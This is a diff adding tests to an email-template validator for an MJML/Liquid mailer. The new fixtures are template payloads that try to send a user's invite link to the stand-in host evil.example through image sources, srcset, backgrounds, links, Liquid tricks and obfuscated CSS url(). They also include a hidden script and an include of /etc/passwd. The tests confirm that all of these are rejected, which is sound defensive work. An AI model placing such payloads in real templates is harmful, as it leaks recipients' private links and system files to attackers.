@@ -11,6 +11,18 @@ const good = {
   body: body(`<mj-text>Ahoy {{ invitee.first_name }}, {{ data.ship }}</mj-text>${button}`),
 };
 
+/** HTML, as it is in MJML and after it. */
+const leaks = [
+  `<img src="https://evil.example/p?{{ url | url_encode }}" />`,
+  `<img srcset="https://evil.example/s/{{ url }} 1x" />`,
+  `<td background="https://evil.example/{{ url }}"></td>`,
+  `<a href="https://evil.example/?{{ url | url_encode }}">Open</a>`,
+  `{% assign to = "https://evil.example/?" | append: url %}<a href="{{ to }}">Open</a>`,
+  `{% capture to %}https://evil.example/?{{ url }}{% endcapture %}<img src="{{ to }}" />`,
+  `<a {{ "" }}href="https://evil.example/?{{ url }}">Open</a>`,
+  `<p style="background:u{{ "" }}rl(https://evil.example/{{ url }})">x</p>`,
+];
+
 async function owned(engine: (typeof engines)[number] = "sqlite") {
   const app = await openApp(engine);
   onTestFinished(async () => {
@@ -60,6 +72,28 @@ describe.each(engines)("a tenant's template, on %s", (engine) => {
       status: 200,
       body: { isBuiltIn: true, subject: "{{ text.subject }}" },
     });
+  });
+
+  it("that was kept before and would hand its link to others is not sent; the built-in one is", async () => {
+    const { app, olive, path, templates } = await owned(engine);
+    const { id } = (await olive.get(path)).body;
+    const kept = (html: string) =>
+      app.world.store.mailTemplates.put({
+        ...{ tenantId: id, kind: "invite", locale: "*", subject: "Kept", body: "", text: null },
+        ...{ html: `<p>{{ url }}</p>${html}`, updatedAt: 0, updatedBy: "system" },
+      });
+    for (const [index, html] of leaks.entries()) {
+      await kept(html);
+      const { subject, html: sent } = await invited(app, olive, path, `p${index}@example.com`);
+      expect(subject, html).toBe("Olive invites you to Acme");
+      expect(sent).not.toContain("evil.example");
+      expect(await olive.post(`${templates}/invite/*/preview`)).toMatchObject({
+        status: 422,
+        body: { code: "invalid_template" },
+      });
+    }
+    await kept(`<img src="https://acme.example/logo.png">`);
+    expect((await invited(app, olive, path, "last@example.com")).subject).toBe("Kept");
   });
 
   it("belongs to one tenant, and to its owners", async () => {
@@ -116,6 +150,50 @@ describe("a template that cannot be used", () => {
       /must begin with https/,
     ],
     ["an image by http", { body: body(`<mj-image src="http://tracker.example/x.gif" />${button}`) }, /must begin with https/],
+    ...leaks.map((leak, index): [string, object, RegExp] => [
+      `one that hands the link to others, ${index}`,
+      { body: body(`<mj-text>${leak}</mj-text>${button}`) },
+      /holds no Liquid|must begin with https|stands inside quotes|load nothing/,
+    ]),
+    ...[
+      `<mj-image src="https://evil.example/p?{{ url | url_encode }}" />`,
+      `<mj-image src="https://evil.example/x.png" srcset="https://evil.example/{{ url }} 2x" />`,
+      `<mj-button href="https://evil.example/?{{ url }}">Open</mj-button>`,
+      `<mj-button href="{{ url }}@evil.example">Open</mj-button>`,
+    ].map((leak, index): [string, object, RegExp] => [
+      `an element that hands the link to others, ${index}`,
+      { body: body(`${leak}${button}`) },
+      /^Line 2: <mj-\w+> \w+ (holds no Liquid|must begin with https)/,
+    ]),
+    [
+      "a class that hands the link to others",
+      {
+        body: body(`<mj-image mj-class="x" />${button}`).replace(
+          "<mj-body>",
+          `<mj-head><mj-attributes><mj-class name="x" src="https://evil.example/{{ url }}" /></mj-attributes></mj-head><mj-body>`,
+        ),
+      },
+      /<mj-class> src holds no Liquid/,
+    ],
+    [
+      "a network's button that hands the link to it",
+      {
+        body: body(`<mj-social><mj-social-element name="facebook" href="{{ url }}">x</mj-social-element></mj-social>${button}`),
+      },
+      /a link a whole href/,
+    ],
+    [
+      "a script behind Liquid that seems to go on",
+      { body: body(`<mj-text>{{ "}} {% " }}<script>1</script> %}</mj-text>${button}`) },
+      /<script> is not allowed/,
+    ],
+    [
+      "a style that loads by an escape",
+      { body: body(`<mj-text><p style="background:u\\72l(x)">x</p></mj-text>${button}`) },
+      /url\(\)/,
+    ],
+    ["a text part with the link in an address", { text: "https://evil.example/?{{ url }}" }, /put a space before it/],
+    ["a subject with the link in an address", { subject: "evil.example/?{{ url }}" }, /put a space before it/],
     ["an include", { body: body(`<mj-include path="/etc/passwd" />${button}`) }, /<mj-include> is not allowed/],
     ["a comment", { body: body(`<!-- x -->${button}`) }, /Comments are not allowed/],
     [
